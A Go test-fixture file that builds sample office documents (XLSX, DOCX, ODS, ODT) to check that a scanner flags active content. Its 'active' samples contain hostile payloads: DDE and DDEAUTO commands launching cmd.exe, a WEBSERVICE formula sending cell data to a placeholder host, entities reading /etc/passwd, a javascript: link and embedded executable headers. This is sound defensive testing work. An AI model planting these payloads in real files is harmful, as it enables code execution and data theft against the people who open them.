package mediatest

import "strings"

const (
	types     = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	workbook  = `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`
	worksheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>SUM(A1:A1)</f></c></row></sheetData></worksheet>`
	document  = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>`
	relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	schema    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
)

// Sheet is a spreadsheet (XLSX) with further entries.
func Sheet(more ...string) []byte {
	return Zip(append([]string{"[Content_Types].xml", types, "xl/workbook.xml", workbook, "xl/worksheets/sheet1.xml", worksheet}, more...)...)
}

// Letter is a text (DOCX) with further entries.
func Letter(body string, more ...string) []byte {
	return Zip(append([]string{"[Content_Types].xml", types, "word/document.xml", body}, more...)...)
}

// Open is an ODF file of a media type with that content.
func Open(kind, content string, more ...string) []byte {
	return Zip(append([]string{"mimetype", "application/vnd.oasis.opendocument." + kind, "content.xml", content}, more...)...)
}

func relation(kind, target, mode string) string {
	return relations + `<Relationship Id="r1" Type="` + schema + kind + `" Target="` + target + `" TargetMode="` + mode + `"/></Relationships>`
}

func field(instruction string) string {
	return strings.Replace(document, "<w:t>Hello</w:t>", instruction, 1)
}

const openContent = `<office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x"><office:scripts/><office:body>%</office:body></office:document-content>`

func content(body string) string { return strings.Replace(openContent, "%", body, 1) }

func offices() []File {
	const sheetRels, letterRels = "xl/worksheets/_rels/sheet1.xml.rels", "word/_rels/document.xml.rels"
	ok := func(name, ext string, b []byte) File { return File{Name: name, Ext: ext, Bytes: b, Want: pass} }
	acts := func(name, ext string, b []byte) File { return File{Name: name, Ext: ext, Bytes: b, Want: active} }
	return []File{
		ok("xlsx", "xlsx", Sheet("xl/printerSettings/printerSettings1.bin", "\x01\x02", "xl/media/image1.png", string(PNG(8, 8)))),
		ok("xlsx with its properties, as office programs write it", "xlsx", Sheet("_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`, "docProps/core.xml", "<x/>")),
		ok("xlsx with a link to click", "xlsx", Sheet(sheetRels, relation("hyperlink", "https://example.org/", "External"))),
		ok("docx", "docx", Letter(document)),
		ok("docx with a page number", "docx", Letter(field(`<w:instrText>PAGE</w:instrText>`))),
		ok("ods", "ods", Open("spreadsheet", content(`<text:a xlink:href="https://example.org/">x</text:a>`))),
		ok("odt", "odt", Open("text", content("hello"), "Pictures/a.jpg", string(JPEG(8, 8)), "Configurations2/", "")),

		{"sheet called text", "docx", Sheet(), kind, false, ""},
		acts("xlsx with a package within", "xlsx", Sheet(sheetRels, relation("package", "../other/book1.dat", "Internal"))),
		acts("xlsx with macros", "xlsx", Sheet("xl/vbaProject.bin", "x")),
		acts("xlsx that says it has macros", "xlsx", Zip("[Content_Types].xml", strings.Replace(types, "sheet.main", "sheet.macroEnabled.main", 1), "xl/workbook.xml", workbook)),
		acts("docx that says it has macros, in entities", "docx", Zip("[Content_Types].xml", strings.Replace(types, "sheet.main", "sheet.&#109;acroEnabled.main", 1), "word/document.xml", document)),
		acts("xlsx with a sheet of macros", "xlsx", Sheet("xl/macrosheets/sheet1.xml", worksheet)),
		acts("xlsx with an external link", "xlsx", Sheet("xl/externalLinks/externalLink1.xml", "<x/>")),
		acts("xlsx with an external reference", "xlsx", Zip("[Content_Types].xml", types, "xl/workbook.xml", strings.Replace(workbook, "<sheets>", "<externalReferences><externalReference/></externalReferences><sheets>", 1))),
		acts("xlsx with data exchange", "xlsx", Sheet("xl/worksheets/sheet2.xml", `<worksheet><ddeLink ddeService="cmd" ddeTopic="/c calc"/></worksheet>`)),
		acts("xlsx that calls out", "xlsx", Sheet("xl/worksheets/sheet2.xml", strings.Replace(worksheet, "SUM(A1:A1)", `WEBSERVICE("http://x/"&amp;A1)`, 1))),
		acts("xlsx that runs a program", "xlsx", Sheet("xl/worksheets/sheet2.xml", strings.Replace(worksheet, "SUM(A1:A1)", `cmd|'/c calc'!A0`, 1))),
		acts("xlsx with an object", "xlsx", Sheet("xl/embeddings/oleObject1.bin", "x")),
		acts("xlsx with a program as printer settings", "xlsx", Sheet("xl/printerSettings/printerSettings1.bin", "MZ\x90\x00")),
		acts("xlsx with a script in a link", "xlsx", Sheet(sheetRels, relation("hyperlink", "javascript:alert(1)", "External"))),
		acts("xlsx with entities", "xlsx", Sheet("xl/sharedStrings.xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><sst>&b;</sst>`)),
		acts("docx with a template from elsewhere", "docx", Letter(document, "word/_rels/settings.xml.rels", relation("attachedTemplate", "https://example.org/a.dotm", "External"))),
		acts("docx with a picture from elsewhere", "docx", Letter(document, letterRels, relation("image", `\\example.org\a.png`, "External"))),
		acts("docx with a frame from elsewhere", "docx", Letter(document, letterRels, relation("frame", "https://example.org/", "External"))),
		acts("docx with data exchange cut into runs", "docx", Letter(field(`<w:instrText> D</w:instrText></w:r><w:r><w:instrText>DEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>`))),
		acts("docx with a page within", "docx", Letter(document, "word/afchunk.htm", "<html>")),
		acts("docx with a document within", "docx", Letter(document, "word/embeddings/a.docx", string(Letter(document)))),
		acts("docx with a program within", "docx", Letter(document, "word/media/image1.png", "MZ\x90\x00")),
		acts("ods with scripts", "ods", Open("spreadsheet", content(""), "Basic/Standard/Module1.xml", "<x/>")),
		acts("ods with a script element", "ods", Open("spreadsheet", strings.Replace(content(""), "<office:scripts/>", "<office:scripts><office:script/></office:scripts>", 1))),
		acts("odt with an event", "odt", Open("text", content(`<office:event-listeners><script:event-listener/></office:event-listeners>`))),
		acts("odt with a section from elsewhere", "odt", Open("text", content(`<text:section-source xlink:href="file:///etc/passwd"/>`))),
		acts("odt with a picture from elsewhere", "odt", Open("text", content(`<draw:image xlink:href="https://example.org/a.png"/>`))),
		acts("ods with data exchange", "ods", Open("spreadsheet", content(`<office:dde-source office:dde-application="cmd"/>`))),
		{"odf that is a template", "ods", Open("spreadsheet-template", content("")), packed, false, ""},
		{"xlsx that unpacks to much", "xlsx", Sheet("xl/worksheets/sheet2.xml", "<a>"+strings.Repeat(" ", 9<<20)+"</a>"), packed, false, ""},
		{"xlsx cut", "xlsx", Sheet()[:len(Sheet())-30], packed, false, ""},
	}
}
